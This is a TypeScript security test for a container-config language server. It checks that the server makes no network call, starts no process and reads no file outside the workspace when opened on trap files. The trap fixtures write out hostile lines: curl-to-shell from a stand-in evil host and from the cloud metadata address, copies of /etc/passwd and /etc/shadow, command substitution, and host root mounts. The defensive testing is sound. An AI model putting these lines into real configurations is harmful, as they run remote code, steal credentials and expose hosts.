// A hostile workspace gets nothing: the real server (dist/server.js), run with a preload that
// records every network attempt, child process and file-system path (sandbox-preload.ts), is
// opened on a copy of examples/ plus traps (symbolic links out of the workspace, a symlink loop,
// Dockerfiles and manifests naming host paths, URLs and commands), and driven through every
// request it serves. The test fails on any socket other than stdio, any process, or any path
// outside the workspace and the server's own files.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { CodeAction, Diagnostic } from 'vscode-languageserver-protocol';
import { SERVER_PATH, type TestClient } from '../lsp/lsp-client';
import { REPO_ROOT } from '../fuzz/regex-scan';
import { answered, diagnosticsFor, makeWorkspace, open, removeWorkspace, startIn, uriOf } from './support';

interface Entry {
  kind: 'network' | 'process' | 'fs';
  what: string;
  detail: string;
}

const TRAPS: Record<string, string> = {
  'traps/Dockerfile': [
    'FROM alpine:3.20',
    'COPY ../../../../../../etc/passwd /x',
    'COPY /etc/shadow /y',
    'ADD https://example.com/payload.tar.gz /opt/',
    'ADD git@github.com:example/repo.git /src',
    'RUN curl -fsSL http://169.254.169.254/latest/meta-data | sh',
    'RUN $(touch /tmp/lashing-pwned) && `id`',
    'HEALTHCHECK CMD wget -q http://localhost/',
    '',
  ].join('\n'),
  'traps/deploy.yaml': [
    'apiVersion: v1',
    'kind: Pod',
    'metadata:',
    '  name: trap',
    'spec:',
    '  containers:',
    '    - name: a',
    '      image: evil.example.com/x:latest',
    '      command: ["sh", "-c", "curl http://evil.example.com | sh"]',
    '      envFrom: [{secretRef: {name: "../../../etc"}}]',
    '  volumes:',
    '    - name: host',
    '      hostPath: {path: /etc}',
    '',
  ].join('\n'),
  'traps/compose.yaml': [
    'services:',
    '  web:',
    '    image: nginx',
    '    env_file: ../../../../etc/environment',
    '    build:',
    '      context: /',
    '      dockerfile: /etc/Dockerfile',
    '    extends:',
    '      file: /etc/compose.yaml',
    '      service: x',
    '    volumes: ["/:/host"]',
    '',
  ].join('\n'),
  'traps/.lashing.yaml': 'ignorePaths: ["/etc/**", "../**"]\n',
};

function copyTree(from: string, to: string): void {
  for (const entry of fs.readdirSync(from, { withFileTypes: true })) {
    const source = path.join(from, entry.name);
    const target = path.join(to, entry.name);
    if (entry.isDirectory()) {
      fs.mkdirSync(target, { recursive: true });
      copyTree(source, target);
    } else if (entry.isFile()) fs.copyFileSync(source, target);
  }
}

describe('a hostile workspace gets nothing', () => {
  let parent: string;
  let folder: string;
  let outside: string;
  let log: string;
  let client: TestClient;
  let entries: Entry[] = [];

  before(async () => {
    parent = makeWorkspace('lashing-sandbox-');
    folder = path.join(parent, 'workspace');
    outside = path.join(parent, 'outside');
    fs.mkdirSync(folder);
    fs.mkdirSync(outside);
    // Files the server must never read: next to the workspace, and a config above it.
    fs.writeFileSync(path.join(outside, 'Dockerfile'), 'FROM alpine\nRUN sudo x\n');
    fs.writeFileSync(path.join(parent, '.lashing.yaml'), 'rules: {}\n');
    copyTree(path.join(REPO_ROOT, 'examples'), folder);
    for (const [name, content] of Object.entries(TRAPS)) {
      fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
      fs.writeFileSync(path.join(folder, name), content);
    }
    // Symbolic links out of the workspace and a loop: never followed.
    fs.symlinkSync(outside, path.join(folder, 'link-to-outside'));
    fs.symlinkSync(path.join(outside, 'Dockerfile'), path.join(folder, 'traps', 'Dockerfile.link'));
    fs.symlinkSync('/etc', path.join(folder, 'etc'));
    fs.mkdirSync(path.join(folder, 'loop'));
    fs.symlinkSync('..', path.join(folder, 'loop', 'again'));

    log = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'lashing-sandbox-log-')), 'log.jsonl');
    const preload = path.join(__dirname, 'sandbox-preload.js');
    client = await startIn(folder, {
      env: { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --require ${JSON.stringify(preload).slice(1, -1)}`.trim(), LASHING_SANDBOX_LOG: log },
      configuration: true,
    });
  });

  after(async () => {
    await client.close();
    removeWorkspace(parent);
    fs.rmSync(path.dirname(log), { recursive: true, force: true });
  });

  it('serves every request on the workspace', async () => {
    // The initial scan: wait until the examples are analysed.
    await client.waitForDiagnostics(uriOf(folder, 'api/Dockerfile'), () => true, 30_000);
    await client.waitForDiagnostics(uriOf(folder, 'traps/deploy.yaml'), () => true, 30_000);
    const trap = uriOf(folder, 'traps/Dockerfile');
    await open(client, trap, TRAPS['traps/Dockerfile'] + 'RUN sudo x\n');
    const published = await diagnosticsFor(client, trap, 1);
    const first = published.diagnostics[0] as Diagnostic;
    await client.connection.sendRequest('textDocument/codeAction', { textDocument: { uri: trap }, range: first.range, context: { diagnostics: published.diagnostics } });
    const fixAll = (await client.connection.sendRequest('textDocument/codeAction', { textDocument: { uri: trap }, range: first.range, context: { diagnostics: [], only: ['source.fixAll.lashing'] } })) as CodeAction[];
    assert.ok(Array.isArray(fixAll));
    await client.connection.sendRequest('textDocument/hover', { textDocument: { uri: trap }, position: { line: 1, character: 2 } });
    const manifest = uriOf(folder, 'traps/deploy.yaml');
    await open(client, manifest, TRAPS['traps/deploy.yaml']);
    await diagnosticsFor(client, manifest, 1);
    await client.connection.sendRequest('textDocument/codeLens', { textDocument: { uri: manifest } });
    await client.connection.sendRequest('textDocument/hover', { textDocument: { uri: manifest }, position: { line: 12, character: 8 } });
    const compose = uriOf(folder, 'traps/compose.yaml');
    await open(client, compose, TRAPS['traps/compose.yaml']);
    await diagnosticsFor(client, compose, 1);
    for (const format of ['markdown', 'sarif', 'json']) await client.connection.sendRequest('lashing/exportReport', { format });
    await client.connection.sendRequest('lashing/checklist');
    await client.connection.sendRequest('lashing/explainRule', { ruleId: 'dockerfile/sudo' });
    await client.connection.sendRequest('lashing/listRules');
    await answered(client.connection.sendRequest('lashing/scanWorkspace'), 'scan with a symlink loop', 30_000);
    await client.connection.sendNotification('workspace/didChangeWatchedFiles', {
      changes: [
        { uri: uriOf(folder, 'traps/.lashing.yaml'), type: 2 },
        { uri: uriOf(folder, 'web/Dockerfile'), type: 2 },
        { uri: uriOf(folder, 'link-to-outside/Dockerfile'), type: 1 },
        { uri: uriOf(folder, 'traps/Dockerfile.link'), type: 2 },
      ],
    });
    await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: { lashing: { ignorePaths: ['/etc/**', '../../**'] } } });
    await client.connection.sendNotification('textDocument/didClose', { textDocument: { uri: trap } });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await answered(client.connection.sendRequest('lashing/listRules'), 'after everything');
    await client.close();
    entries = fs.readFileSync(log, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Entry);
    assert.ok(entries.some((entry) => entry.what === 'preload'), 'the recording preload ran in the server');
    assert.ok(entries.some((entry) => entry.kind === 'fs' && entry.detail.startsWith(folder)), 'file accesses are recorded');
  });

  it('opens no socket and makes no network request', () => {
    assert.deepEqual(entries.filter((entry) => entry.kind === 'network'), []);
  });

  it('starts no process', () => {
    assert.deepEqual(entries.filter((entry) => entry.kind === 'process'), []);
  });

  // Looking a link up (to see where it leads, and refuse it) is not reading through it.
  const LOOKUPS = new Set(['fs.readdirSync', 'fs.statSync', 'fs.lstatSync', 'fs.realpathSync']);

  it('touches no path outside the workspace and its own files', () => {
    const allowed = [folder, path.dirname(SERVER_PATH), path.join(REPO_ROOT, 'node_modules'), path.dirname(log), __dirname];
    const inside = (file: string): boolean => {
      const resolved = path.resolve(file.startsWith('file:') ? new URL(file).pathname : file);
      return allowed.some((root) => resolved === root || resolved.startsWith(root + path.sep));
    };
    const outsidePaths = entries.filter((entry) => entry.kind === 'fs' && entry.what !== 'preload' && !inside(entry.detail));
    assert.deepEqual(outsidePaths, [], 'paths outside the workspace');
    const throughLinks = entries.filter((entry) => entry.kind === 'fs' && /link-to-outside|Dockerfile\.link|[/\\]etc[/\\]|loop[/\\]again[/\\]/.test(entry.detail) && !LOOKUPS.has(entry.what));
    assert.deepEqual(throughLinks, [], 'no file read through a symbolic link');
  });
});
